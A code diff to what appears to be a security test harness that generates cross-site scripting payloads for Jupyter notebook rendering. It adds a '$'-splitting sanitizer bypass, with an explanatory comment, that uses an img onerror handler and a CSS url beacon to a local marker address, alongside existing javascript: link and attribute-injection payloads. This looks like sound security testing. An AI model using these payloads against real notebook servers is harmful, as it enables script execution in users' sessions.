@@ -90,8 +90,16 @@ def markdown_payloads():
         ("md-block-ended", f"<p>x&#13;&#13;[cr](javascript:{MARKER}) ![cr]({MARKER_URL}/md-cr)</p>"
          f"<p>y&#10;&#12;&#10;[ff](javascript:{MARKER}) ![ff]({MARKER_URL}/md-ff)</p>"
          f"<p>z&#11;&#11;&#x2028;&#x2028;[vt](javascript:{MARKER})</p>"),
+        # JupyterLab pairs $ signs in a cell's source before it reads the HTML, and cuts out what
+        # lies between: a $ in an attribute and one in the text make the text after it attributes.
+        ("md-dollar-split", _dollar_split("md-dollar-split")),
         ("md-attachment", "![svg attachment](attachment:kitpwn.svg)"),
     ]
+
+
+def _dollar_split(name):
+    return (f'<img alt="$">$" src=x onerror="{pwn(name)}" x=y <br> '
+            f'<a href="https://example.com/$">x</a>$" style="background:url(//127.0.0.1:9/{MARKER}/{name}-style)" x=y <br>')
 
 
 def output_bundles():
@@ -108,6 +116,7 @@ def output_bundles():
         ({"image/png": f'x" onerror="{pwn("out-png-attribute")}'}, {}),
         ({"image/png": PIXEL}, {"image/png": {"width": f'1" onerror="{pwn("out-png-width")}'}}),
         ({"text/html": f'<a href="javascript:{pwn("out-html-link")}">l</a>'}, {}),
+        ({"text/markdown": _dollar_split("out-md-dollar-split")}, {}),
     ]
 
 
